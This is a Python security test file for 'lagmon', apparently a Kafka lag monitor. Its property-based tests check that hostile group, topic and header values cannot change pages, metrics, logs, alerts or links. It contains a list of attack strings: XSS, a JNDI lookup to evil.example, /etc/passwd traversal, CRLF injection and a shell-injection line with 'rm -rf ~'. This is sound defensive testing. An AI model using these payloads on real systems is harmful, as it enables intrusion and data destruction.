"""Whatever strangers call groups, topics and clients: it is text, everywhere that lagmon shows it.

Kafka takes any text for a group or client id. What is shown of it must change neither what a page
is made of, nor a label, nor a line of the log, nor where a link leads.
"""

from __future__ import annotations

import asyncio
import io
import json
import unicodedata
from dataclasses import replace
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode, urlsplit

import httpx
import pytest
import structlog
from hypothesis import example, given, settings
from hypothesis import strategies as st
from prometheus_client.parser import text_string_to_metric_families

from lagmon.alerts.rules import SHIPPED
from lagmon.exposition.page import render
from lagmon.labels import LONGEST, safe
from lagmon.model import Change
from lagmon.notify.alertmanager import alert
from lagmon.notify.log import Log
from lagmon.readings import Member
from lagmon.report import Links
from lagmon.web.app import create_app
from propagation.integrations import logs
from tests.lagmon.builders import NOON, at, cycle, group, incident, lags, notice, part, record
from tests.lagmon.web.test_app import filled

if TYPE_CHECKING:
    from collections.abc import Callable

    from lagmon.board import Cycle

LINKS = Links("http://jaeger:16686", "https://runbooks/{rule}", "http://lagmon:10308")
ODD = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>' onmouseover=alert(1) x='",
    "</title><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${jndi:ldap://evil.example}",
    "../../../../etc/passwd",
    "..\\..\\a/b?c=d#e&f;g",
    "%2e%2e%2f%00%0d%0aSet-Cookie:%20a=b",
    'a"} 1\nlagmon_up{kafka_cluster="local"} 0\n# ',
    "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "\x00\x07\x08\x1b[2J\x1b]0;title\x07\x7f\x9b",
    "\N{RIGHT-TO-LEFT OVERRIDE}gro\N{LEFT-TO-RIGHT ISOLATE}up\N{ZERO WIDTH SPACE}",
    "\ud800lone\udfff",
    "\N{LINE SEPARATOR}\N{PARAGRAPH SEPARATOR}\x85",
    "$(touch x) `id` ; rm -rf ~ | cat && 'x' \"y\" !z",
    "x" * 65_536,
    "\u0301" * 5000,
    "\N{CJK UNIFIED IDEOGRAPH-4E00}" * 300,
)
ANY = st.sampled_from(ODD) | st.text(st.characters(codec=None), min_size=1, max_size=80)
SHOWN = {"\n", "\t"}  # what a page of ours has of controls


class Shape(HTMLParser):
    """What a page is made of: its tags, and the names of their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in {"href", "src", "action"}]


def seen(name: str) -> Cycle:
    """Give a cycle in which *name* is the name of all that strangers may name."""
    owner = Member(name, name, f"/{name}", (at(0, name),))
    behind = group(1203, name, part(0, 1203, topic=name, owner=owner))
    oldest = replace(record(trace_unknown=name), at=at(0, name), headers=((name, name),))
    return cycle(lags(behind), incidents=(incident(name),), records=((name, oldest),))


def asked(app: Callable[..., object], *paths: str) -> list[httpx.Response]:
    """Ask *app* for each of *paths*."""

    async def story() -> list[httpx.Response]:
        transport = httpx.ASGITransport(app)  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=transport, base_url="http://lagmon") as client:
            return [await client.get(path) for path in paths]

    return asyncio.run(story())


def harmless(text: str) -> bool:
    """Tell whether *text* has no character that moves, hides or ends anything."""
    kinds = {unicodedata.category(each) for each in set(text) - SHOWN}
    return not kinds & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def quoted(name: str) -> str:
    """Write *name* as a part of an address."""
    return quote(name.encode("utf-8", "replace")[:1000], safe="")


@settings(max_examples=60)
@given(ANY)
@example(ODD[0])
@example(ODD[12])
@example(ODD[15])
def test_a_page_is_made_of_the_same_whatever_the_names(name: str) -> None:
    """No tag, no attribute and no link to another place comes from a name."""
    app = create_app(filled(seen(name)), SHIPPED, LINKS, lambda: NOON)
    plain = create_app(filled(seen("settle")), SHIPPED, LINKS, lambda: NOON)

    (page,), (usual,) = asked(app, "/"), asked(plain, "/")

    assert page.status_code == 200
    assert Shape(page.text).tags == Shape(usual.text).tags
    assert harmless(page.text)
    for link in Shape(page.text).links:
        parts = urlsplit(link)
        assert (parts.scheme, parts.netloc) in {
            ("", ""),
            ("http", "jaeger:16686"),
            ("https", "runbooks"),
        }


@settings(max_examples=40, deadline=None)
@given(ANY)
@example(ODD[0])
@example(ODD[12])
@example(ODD[15])
def test_the_page_of_a_group_is_made_of_the_same_whatever_its_name(name: str) -> None:
    """With its commands, partitions, owners and the headers of its record."""
    pages = []
    for each in (name, "settle"):
        app = create_app(filled(seen(each)), SHIPPED, LINKS, lambda: NOON)
        way = urlencode({"cluster": "local", "name": safe(each)})
        (page,) = asked(app, f"/group?{way}")
        assert page.status_code == 200
        assert harmless(page.text)
        pages.append(Shape(page.text))
    shape, usual = pages

    # A command that no shell could be given is left out, with its heading; nothing is added.
    assert set(shape.tags) <= set(usual.tags)
    for link in shape.links:
        parts = urlsplit(link)
        assert parts.netloc in {"", "jaeger:16686", "runbooks"}
        assert parts.scheme in {"", "http", "https"}


@settings(max_examples=60)
@given(ANY)
@example(ODD[8])
@example(ODD[12])
@example(ODD[15])
def test_a_label_holds_its_name_and_nothing_else(name: str) -> None:
    """The page of metrics has the same series with any names, read by another's parser."""
    read = [
        {
            (sample.name, *sorted(sample.labels))
            for family in text_string_to_metric_families(render(filled(seen(each)).report).decode())
            for sample in family.samples
        }
        for each in (name, "settle")
    ]
    families = text_string_to_metric_families(render(filled(seen(name)).report).decode())
    groups = {
        sample.labels["group"]
        for family in families
        for sample in family.samples
        if "group" in sample.labels
    }

    assert read[0] == read[1]
    assert groups == {safe(name)}
    assert all(len(each) <= LONGEST and harmless(each) for each in groups)


@settings(max_examples=60)
@given(ANY)
@example(ODD[12])
@example(ODD[15])
def test_the_api_is_json_whatever_the_names(name: str) -> None:
    """Every answer is ASCII, and none is an error of the server."""
    app = create_app(filled(seen(name)), SHIPPED, LINKS, lambda: NOON)
    root = "/api/v1"
    paths = [f"{root}/{each}" for each in ("clusters", "groups", "incidents")]
    paths += [f"{root}/groups/{quoted(name)}", f"{root}/record/{quoted(name)}/0"]
    paths += [f"{root}/groups?cluster={quoted(name)}"]

    for answer in asked(app, *paths):
        assert answer.status_code in {200, 400, 404}
        assert answer.content.isascii()
        assert isinstance(answer.json(), dict)


@settings(max_examples=60)
@given(ANY)
@example(ODD[12])
@example(ODD[15])
def test_an_alert_is_text_whatever_the_names(name: str) -> None:
    """Labels and annotations are bounded and harmless, and links lead where the settings say."""
    behind = group(1203, name, part(0, 1203, topic=name, owner=Member(name, name, name, (at(0),))))
    told = notice(Change.OPENED, incident(name), behind=behind, oldest=record(trace_unknown=name))

    sent = json.loads(json.dumps(alert(told, LINKS, 240.0)))

    assert sent["labels"]["group"] == safe(name)
    for text in (*sent["labels"].values(), *sent["annotations"].values()):
        assert harmless(text)
    urls = [text for key, text in sent["annotations"].items() if key.endswith("_url")]
    for url in (*urls, sent["generatorURL"]):
        assert urlsplit(url).netloc in {"jaeger:16686", "runbooks", "lagmon:10308"}


@settings(max_examples=40)
@given(ANY)
@example(ODD[10])
@example(ODD[12])
@example(ODD[15])
def test_a_line_of_the_log_stays_one_line(name: str) -> None:
    """One JSON object in ASCII or harmless text, without a line of its own from the name."""
    stream = io.StringIO()
    logs.configure("lagmon", stream=stream)
    try:
        asyncio.run(Log().send([notice(Change.OPENED, incident(name), behind=group(7, name))]))
        structlog.get_logger("lagmon").warning("cluster_silent", reason=name)
    finally:
        logs.restore()

    lines = stream.getvalue().splitlines()
    assert len(lines) == 2
    for line in lines:
        assert isinstance(json.loads(line), dict)
        line.encode()
        assert not {each for each in line if unicodedata.category(each) in {"Cc", "Cs"}}


PLACES = ("/", "/group?name=settle", "/metrics", "/api/v1/groups", "/static/lagmon.css", "/-/ready")
NAMES = st.sampled_from(
    [
        "Host",
        "Accept",
        "Accept-Encoding",
        "Range",
        "If-None-Match",
        "If-Modified-Since",
        "Cookie",
        "X-Forwarded-Host",
        "X-Forwarded-Proto",
        "Forwarded",
        "X-Original-URL",
        "Origin",
        "Referer",
        "traceparent",
        "baggage",
        "Authorization",
        "Content-Length",
        "Last-Event-ID",
    ]
)
VALUES = st.binary(max_size=60) | st.sampled_from([name.encode("utf-8", "replace") for name in ODD])


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(NAMES, VALUES), max_size=6), st.sampled_from(PLACES))
def test_no_header_breaks_an_answer_or_comes_back(sent: list[tuple[str, bytes]], path: str) -> None:
    """What a client says about itself is no error of the server's, and stands in no answer."""
    app = create_app(filled(seen("settle")), SHIPPED, LINKS, lambda: NOON)
    mark = b"evil-7f3a.example"
    headers = [(name.encode(), value + mark) for name, value in sent]

    async def story() -> httpx.Response:
        transport = httpx.ASGITransport(app)
        async with httpx.AsyncClient(transport=transport, base_url="http://lagmon") as client:
            return await client.get(path, headers=headers)

    answer = asyncio.run(story())

    assert answer.status_code < 500
    assert mark not in answer.content
    assert not [value for _, value in answer.headers.raw if mark in value]


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/metrics/",
        "/group/",
        "/events/",
        "/static",
        "/static/",
        "/-/ready/",
        "/-/healthy/",
        "/api/v1",
        "/api/v1/",
        "/api/v1/clusters/",
        "/api/v1/groups/",
        "/api/v1/record/plays/0/",
    ],
)
def test_no_answer_leads_to_the_host_of_a_request(path: str) -> None:
    """An address with a slash too many is unknown, and no way to somewhere else."""
    app = create_app(filled(seen("settle")), SHIPPED, LINKS, lambda: NOON)

    async def story() -> httpx.Response:
        transport = httpx.ASGITransport(app)
        async with httpx.AsyncClient(transport=transport, base_url="http://evil.example") as client:
            return await client.get(path)

    answer = asyncio.run(story())

    assert answer.status_code in {200, 404}
    assert "location" not in answer.headers
    assert "evil.example" not in answer.text


@pytest.mark.parametrize(
    "path",
    [
        "/static/../app.py",
        "/static/..%2fapp.py",
        "/static/%2e%2e/app.py",
        "/static/..%5capp.py",
        "/static//etc/passwd",
        "/static/%00",
        "/static/lagmon.css%00.html",
        "/static/" + "a" * 3000,
        "/{{7*7}}",
        "/%ff%fe",
        "//evil.example/",
        "/group?name=" + quote(ODD[0]),
        "/group?name=%00%ff",
        "/?sort=" + quote(ODD[4]) + "&state=" + quote(ODD[10]),
        "/api/v1/groups/..%2f..%2f..%2fetc%2fpasswd",
        "/api/v1/groups/%00",
        "/api/v1/record/plays/-1",
        "/api/v1/record/plays/" + "9" * 400,
        "/api/v1/record/plays/%D9%A3",
        "/metrics/../../etc/passwd",
    ],
)
def test_no_address_gets_at_a_file_or_breaks_anything(path: str) -> None:
    """Every answer is one of ours, with our headers, and no error of the server."""
    app = create_app(filled(seen("settle")), SHIPPED, LINKS, lambda: NOON)

    (answer,) = asked(app, path)

    assert answer.status_code < 500
    assert "root:" not in answer.text
    assert "create_app" not in answer.text
    assert "<script>alert" not in answer.text
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "evil.example" not in answer.headers.get("location", "")
